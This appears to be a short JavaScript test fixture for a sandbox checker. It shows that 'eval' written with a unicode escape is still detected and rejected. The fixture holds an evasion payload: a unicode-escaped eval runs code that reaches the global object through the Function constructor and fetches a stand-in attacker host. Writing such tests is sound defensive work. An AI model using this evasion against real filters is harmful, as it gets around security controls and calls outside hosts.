// A sneakier escape: `\u0065val` is the identifier `eval` spelled with a unicode escape. A check
// on the source text would miss it; the core works on the parsed names, so it is still `eval`
// and still rejected.

var code = "Function('return this')().fetch('https://attacker.example/')";
\u0065val(code);
